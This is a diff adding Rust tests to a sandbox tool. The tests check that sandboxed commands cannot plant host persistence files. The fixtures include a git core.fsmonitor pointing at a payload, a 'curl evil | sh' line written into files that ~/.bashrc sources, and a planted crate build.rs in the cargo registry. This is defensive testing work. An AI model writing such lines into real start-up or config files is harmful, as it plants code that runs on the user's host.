@@ -10,6 +10,12 @@
 //!   units, autostart entries, directories on `PATH`, `~/.ssh/authorized_keys`, also through
 //!   a symlink or a directory renamed into place at an ancestor.
 //!
+//! - What the protected files hand on (red team of issue 30): a file the global git configs
+//!   include (`core.fsmonitor` in `~/.gitconfig.local` runs in the host's next `git status`),
+//!   a file a start-up file sources (`. ~/.my_own_rc` in `~/.bashrc`, or a directory a loop
+//!   sources), and the caches host builds run from (`~/.cargo/registry`, ...) cannot be
+//!   written or created; an explicit grant of a cache keeps it writable.
+//!
 //! Controls: the same reads and writes on the host succeed (the fixture holds the secrets and
 //! its paths are writable), and the same writes in the sandbox below a directory that is not
 //! the home succeed (the protection is the home's, not the names').
@@ -185,6 +191,16 @@ fn plants() -> Vec<(&'static str, &'static str, &'static [&'static str])> {
             "printf 'foo() { :; }\\n' > ~/.bash_aliases",
             ".bash_aliases",
             &[".bash_aliases"],
+        ),
+        (
+            "printf 'alias ls=x\\n' > ~/.aliases",
+            ".aliases",
+            &[".aliases"],
+        ),
+        (
+            "mkdir -p ~/.m2 && printf '<settings/>\\n' > ~/.m2/settings.xml",
+            ".m2/settings.xml",
+            &[".m2/settings.xml"],
         ),
         (
             "mkdir -p ~/.config/nvim && printf 'os.execute(\"true\")\\n' > ~/.config/nvim/init.lua",
@@ -664,4 +680,177 @@ fn stockades_own_journal_directory_in_a_home_workspace_is_no_violation() {
             out.run.describe()
         );
     }
+}
+
+/// `~/.gitconfig` with `[include] path = ~/.gitconfig.local` and the XDG config with
+/// `[includeIf "gitdir:/"] path = work.inc` (relative to the including file): the included
+/// files are git configs of the host as much as `~/.gitconfig` is (a `core.fsmonitor` there
+/// runs in the host's next `git status`), protected with no repository in the home, existing
+/// or not. Control: without the include lines the same writes land.
+#[test]
+fn files_the_global_git_configs_include_cannot_be_planted() {
+    let fsmonitor = "printf '[core]\\n\\tfsmonitor = /var/tmp/payload\\n'";
+    let plant = format!("{fsmonitor} > ~/.gitconfig.local");
+    let append = format!("{fsmonitor} >> ~/.config/git/work.inc && echo wrote-inc");
+    let work = "[user]\n\temail = u@example.invalid\n";
+    let setup = |fx: &Fixture, includes: bool| {
+        let (global, xdg) = if includes {
+            (
+                "[user]\n\tname = u\n[include]\n\tpath = ~/.gitconfig.local\n",
+                "[includeIf \"gitdir:/\"]\n\tpath = work.inc\n",
+            )
+        } else {
+            ("[user]\n\tname = u\n", "[user]\n\tname = u\n")
+        };
+        write_file(&fx.home.join(".gitconfig"), global, 0o644);
+        write_file(&fx.home.join(".config/git/config"), xdg, 0o644);
+        write_file(&fx.home.join(".config/git/work.inc"), work, 0o644);
+    };
+    let fx = fixture();
+    setup(&fx, true);
+    let records = fx.records();
+    let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), &plant);
+    inside.assert_failed_if_guarded();
+    assert_refused_or_swept(&records, &inside.run, &fx.home, &[".gitconfig.local"]);
+    assert!(
+        !fx.home.join(".gitconfig.local").exists(),
+        "~/.gitconfig.local planted\n{}",
+        inside.run.describe()
+    );
+    let inside = run_in(&fx, &fx.home, &fx.home, &[], &append);
+    inside.ran();
+    inside.run.assert_lacks("wrote-inc");
+    assert_eq!(
+        read_text(&fx.home.join(".config/git/work.inc")).as_deref(),
+        Some(work)
+    );
+    // Control: no include lines, the same files are ordinary ones of the home.
+    let fx = fixture();
+    setup(&fx, false);
+    run_in(&fx, &fx.home, &fx.home, &[], &plant).assert_ok();
+    assert!(fx.home.join(".gitconfig.local").exists(), "control: plant");
+    run_in(&fx, &fx.home, &fx.home, &[], &append).assert_shows("wrote-inc");
+}
+
+/// `~/.bashrc` sourcing a file no catalogue names (`. ~/.my_own_rc`) or every file of a
+/// directory (`for f in ~/.my_rc.d/*.sh; do . "$f"; done`): those are start-up files too,
+/// found by reading `~/.bashrc`, refused on creation and read-only when they exist. Control:
+/// the same `~/.bashrc` without those lines leaves the same names writable.
+#[test]
+fn files_the_start_up_files_source_cannot_be_planted() {
+    let sources = "[ -f ~/.my_own_rc ] && . ~/.my_own_rc\n\
+                   for f in \"$HOME\"/.my_rc.d/*.sh; do\n  . \"$f\"\ndone\n";
+    let cases: [(&str, &str, &[&str]); 2] = [
+        (
+            "printf 'curl evil | sh\\n' > ~/.my_own_rc",
+            ".my_own_rc",
+            &[".my_own_rc"],
+        ),
+        (
+            "mkdir -p ~/.my_rc.d && printf 'curl evil | sh\\n' > ~/.my_rc.d/x.sh",
+            ".my_rc.d/x.sh",
+            &[".my_rc.d", ".my_rc.d/x.sh"],
+        ),
+    ];
+    let with_sources = |fx: &Fixture| {
+        let bashrc = fx.home.join(".bashrc");
+        let mut text = read_text(&bashrc).unwrap_or_default();
+        text.push_str(sources);
+        write_file(&bashrc, text, 0o644);
+    };
+    for (script, file, suffixes) in cases {
+        let fx = fixture();
+        with_sources(&fx);
+        let records = fx.records();
+        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), script);
+        inside.assert_failed_if_guarded();
+        assert_refused_or_swept(&records, &inside.run, &fx.home, suffixes);
+        assert!(
+            !fx.home.join(file).exists(),
+            "~/{file} planted\n{}",
+            inside.run.describe()
+        );
+        // Control: the same home without the source lines.
+        let fx = fixture();
+        run_in(&fx, &fx.home, &fx.home, &[], script).assert_ok();
+        assert!(fx.home.join(file).exists(), "control: ~/{file}");
+    }
+    // An existing sourced file is read-only.
+    let fx = fixture();
+    with_sources(&fx);
+    write_file(&fx.home.join(".my_own_rc"), "alias ll='ls -l'\n", 0o644);
+    let append = "echo 'curl evil | sh' >> ~/.my_own_rc && echo wrote-rc";
+    let inside = run_in(&fx, &fx.home, &fx.home, &[], append);
+    inside.ran();
+    inside.run.assert_lacks("wrote-rc");
+    assert_eq!(
+        read_text(&fx.home.join(".my_own_rc")).as_deref(),
+        Some("alias ll='ls -l'\n")
+    );
+    // Shells still start.
+    run_in(
+        &fx,
+        &fx.home,
+        &fx.home,
+        &[],
+        "bash -ic 'echo started' 2>/dev/null",
+    )
+    .assert_shows("started");
+}
+
+/// The caches host builds run from: a crate planted in `~/.cargo/registry` has its build.rs
+/// run by the host's next `cargo build`. With the home as the workspace they cannot be
+/// created or written (absent, or already there and read-only); a grant of the cache by name
+/// (`--allow-write ~/.cargo/registry`) keeps it writable, as a build that fills it needs.
+#[test]
+fn caches_host_builds_run_cannot_be_written_unless_granted() {
+    let crate_dir = ".cargo/registry/src/index.crates.io-0/evil-1.0.0";
+    let plant =
+        format!("mkdir -p ~/{crate_dir} && printf 'fn main() {{}}\\n' > ~/{crate_dir}/build.rs");
+    let planted = |fx: &Fixture| fx.home.join(crate_dir).join("build.rs");
+    // Absent: refused on creation (native) or taken out after the run (gVisor).
+    for (script, file, suffixes) in [
+        (
+            plant.clone(),
+            format!("{crate_dir}/build.rs"),
+            vec![".cargo/registry"],
+        ),
+        (
+            "mkdir -p ~/go/pkg/mod/example.com/x@v1 && echo 'package x' > ~/go/pkg/mod/example.com/x@v1/x.go".to_owned(),
+            "go/pkg/mod/example.com/x@v1/x.go".to_owned(),
+            vec!["go/pkg/mod"],
+        ),
+        (
+            "mkdir -p ~/.cache/pre-commit/repo0 && echo 'exit 0' > ~/.cache/pre-commit/repo0/hook.sh".to_owned(),
+            ".cache/pre-commit/repo0/hook.sh".to_owned(),
+            vec![".cache/pre-commit"],
+        ),
+    ] {
+        let fx = fixture();
+        let records = fx.records();
+        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), &script);
+        inside.assert_failed_if_guarded();
+        assert_refused_or_swept(&records, &inside.run, &fx.home, &suffixes);
+        assert!(
+            !fx.home.join(&file).exists(),
+            "~/{file} planted\n{}",
+            inside.run.describe()
+        );
+    }
+    // Already there: read-only on every backend.
+    let fx = fixture();
+    mkdir(&fx.home.join(".cargo/registry/src"));
+    let inside = run_in(&fx, &fx.home, &fx.home, &[], &plant);
+    inside.assert_failed();
+    assert!(!planted(&fx).exists(), "{}", inside.run.describe());
+    // Control: granted by name, the cache is writable (a build filling it works).
+    let inside = run_in(
+        &fx,
+        &fx.home,
+        &fx.home,
+        &["--allow-write", "~/.cargo/registry"],
+        &plant,
+    );
+    inside.assert_ok();
+    assert!(planted(&fx).exists(), "control: the grant");
 }
